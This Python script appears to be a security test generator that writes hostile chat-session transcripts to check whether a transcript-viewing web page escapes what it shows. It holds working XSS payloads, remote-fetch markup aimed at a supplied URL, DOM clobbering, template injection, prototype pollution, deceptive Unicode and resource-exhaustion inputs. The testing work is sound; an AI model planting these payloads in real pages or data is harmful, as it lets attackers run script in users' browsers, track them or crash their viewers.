#!/usr/bin/env python3
"""Transcripts that try to become more than text in a page that shows them.

    hostile_transcripts.py DIR CWD URL [SCALE]

writes one session each into DIR, a folder of projects, and prints "ID NAME" for each.  What runs would
set window.pwned, or ask URL for something.  SCALE (1) makes what is large larger.
"""

import base64
import json
import os
import struct
import sys
import uuid
import zlib

dir_, cwd, url = sys.argv[1:4]
scale = int(sys.argv[4]) if len(sys.argv) > 4 else 1
RUN = "window.pwned=1"


def record(kind, content, **more):
    return {
        "type": kind, "uuid": str(uuid.uuid4()), "timestamp": "2026-03-04T05:06:07.000Z", "cwd": cwd,
        "message": {"role": kind, "content": content}, **more,
    }


def said(text):
    return [
        record("user", text),
        record("assistant", [{"type": "thinking", "thinking": text}, {"type": "text", "text": text}]),
        tool("Bash", {"command": text, "description": text}),
        result(text),
        record("user", text, isMeta=True),
        record("user", text, isCompactSummary=True),
        record("assistant", text, isSidechain=True),
        {"type": "system", "content": text, "timestamp": text},
        {"type": text, text: {"x": text}},
    ]


def tool(name, given):
    return record("assistant", [{"type": "tool_use", "id": "t", "name": name, "input": given}])


def result(content):
    return record("user", [{"type": "tool_result", "tool_use_id": "t", "content": content}])


def image(data, type_="image/png"):
    return {"type": "image", "source": {"type": "base64", "media_type": type_, "data": base64.b64encode(data).decode()}}


def png(width, height):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)) + chunk(
        b"IDAT", zlib.compress(bytes(min((width // 8 + 2) * height, 120 << 20)), 1)) + chunk(b"IEND", b"")


def nested(depth, open_, close):
    return open_ * depth + "1" + close * depth


def raw_nested():
    given = nested(24, '{"a":', "}")
    return json.dumps(tool("Deep", {})).replace('"input": {}', f'"input": {given}')


MARKUP = {
    "script": f"<script>{RUN}</script><script src={url}/x.js></script>",
    "img": f"<img src=x onerror={RUN}><img src={url}/i.png srcset='{url}/j.png 2x'>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg><math><mtext><style><img onerror={RUN} src>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data={url}/o></object><embed src={url}/e>",
    "link": f"[a](javascript:{RUN}) <a href='javascript:{RUN}' autofocus onfocus={RUN}>x</a> javascript:{RUN} {url}/clicked",
    "picture": f"![a]({url}/m.png) ![b](x \"onerror={RUN}\") [c]: {url}/ref <{url}/auto>",
    "style": f"<style>@import '{url}/s.css';*{{background:url({url}/b)}}</style><link rel=stylesheet href={url}/l.css><p style='background:url({url}/p)'>",
    "page": f"<base href={url}><meta http-equiv=refresh content='0;url={url}/r'><form action={url}/f><button>x</button></form><title>taken</title>",
    "clobber": "<form id=main><input name=attributes></form><a id=said><a id=said name=x><img name=querySelector>",
    "end": f"</pre></code></article></main></body></script><!-- --><![CDATA[ ]]><script>{RUN}</script> \"'`> \\\"><script>{RUN}</script>",
    "template": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} #{7*7} <%= 7 %> __proto__",
    "bidi": "user\u202egnp.exe\u2066 \u2067\u200b\u200f\ufeff\u2028\u2029 \u0007\u001b]0;x\u0007\u001b[31m\u009b31m \x00 \ud800 \udfff x",
    "separators": "\n".join(f"{mark}a{c}b {c}" for c in "\r\v\f\x85\u2028\u2029\u00a0\0\x1c\u3000" for mark in ("- ", "1. ", "# ", "> ", "```", "| ", "---", "  * ")),
    "unseen": "a\U000e0041\U000e0042 b\ufe0f c\u3164 d\u115f\u1160 e\u180b f\U000e0100 g\u00ad h\u061c i\u200bj \u200d\u200d k\u2060 \U0001d173 ok \u2764\ufe0f \U0001f468\u200d\U0001f469 \u0646\u200c\u0645",
    "fences": "```html\n<script>" + RUN + "</script>\n````\n~~~\n```\n> > > <b>\n- <i>\n| <u> | |\n# <h1>\n---\n**<s>** `<q>`",
    "slow": "**" * 20000 + "`" * 20001 + "[" * 20000 + "a](" * 9000 + "> " * 9000 + "- " * 9000 + " " * 20000 + "x",
}


def sessions():
    for name, text in MARKUP.items():
        yield name, said(text)
    yield "title", [
        *said("<b>x</b>"),
        {"type": "custom-title", "customTitle": f"<img src=x onerror={RUN}>\u202e\x07{url}"},
        {"type": "summary", "summary": f"<script>{RUN}</script>"},
        record("user", "y", gitBranch=f"<img src=x onerror={RUN}>", version="<b>"),
        {**record("assistant", "z"), "message": {"role": "assistant", "model": f"<svg onload={RUN}>", "content": "z"}},
    ]
    yield "tools", [
        tool(f"<img src=x onerror={RUN}>", {"file_path": f"<script>{RUN}</script>"}),
        tool("Edit", {"file_path": "a", "old_string": f"<img src=x onerror={RUN}>", "new_string": f"<script>{RUN}</script>"}),
        tool("Edit", {"old_string": {"a": 1}, "new_string": [2]}),
        tool("MultiEdit", {"edits": [None, 1, "x", {"old_string": "a"}, {"old_string": "a\nb", "new_string": "a\nc"}]}),
        tool("TodoWrite", {"todos": [None, 1, {"content": {"a": 1}}, {"content": f"<img src=x onerror={RUN}>", "status": "constructor"},
                                      {"content": "x", "status": "__proto__"}]}),
        tool("TodoWrite", {"todos": {"length": 1e9}}),
        tool("x", {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": 1, "length": -1}),
        tool("x", [1, 2]), tool("x", "text"), tool("x", None), tool(None, {}),
        result([{"type": "image", "source": {"data": "PHN2Zy8+", "media_type": f"text/html;{url}"}}, {"type": "x", "text": {"a": 1}}]),
        result({"a": 1}), result(None), result([None, 1, "x"]),
    ]
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><image href='{url}/i'/></svg>".encode()
    yield "pictures", [
        record("user", [image(png(40, 30)), image(svg, "image/svg+xml"), image(b"<script>" + RUN.encode() + b"</script>", "text/html"),
                        image(b"\x89PNG\r\n\x1a\n" + svg), image(b"GIF89a" + svg), {"type": "image"}, {"type": "image", "source": "x"},
                        {"type": "image", "source": {"type": "url", "url": url + "/picture"}}]),
        record("user", [image(png(30000, 30000)), image(png(2**31 - 1, 2**31 - 1))]),
        result([image(png(9, 9)) for _ in range(200)]),
        record("user", [{"type": "image", "source": {"data": "iVBO"}}] * (3000 * scale)),
    ]
    yield "shapes", [
        {**record("user", "x"), "timestamp": t} for t in
        ("", "x", "9" * 400, "2026-13-45T99:99:99Z", "+275760-09-13T00:00:01Z", None, 1e308, {}, f"<img onerror={RUN}>")
    ] + [{"type": "user"}, {"type": "user", "message": None}, {"type": "user", "message": {"content": {"a": 1}}}, {}, {"type": None}]
    yield "deep", [record("user", "deep"), raw_nested(), record("user", nested(100000, "[", "]"))]
    yield "line", [record("user", "before"), record("user", "x" * (10 << 20)), result("y <b> " * (1 << 20)), record("user", "after")]
    yield "many", [record("user", str(i)) for i in range(20000 * scale)]
    yield "torn", ["{", "null", "[]", "1", '"x"', '{"type":"user","message":{"content":"\\ud800"}}', "\x00\x01", json.dumps(record("user", "end"))]


os.makedirs(dir_, exist_ok=True)
for name, records in sessions():
    id_ = str(uuid.uuid4())
    with open(os.path.join(dir_, id_ + ".jsonl"), "w", encoding="utf-8", errors="surrogatepass") as f:
        for r in records:
            f.write((r if isinstance(r, str) else json.dumps(r)) + "\n")
    print(id_, name)
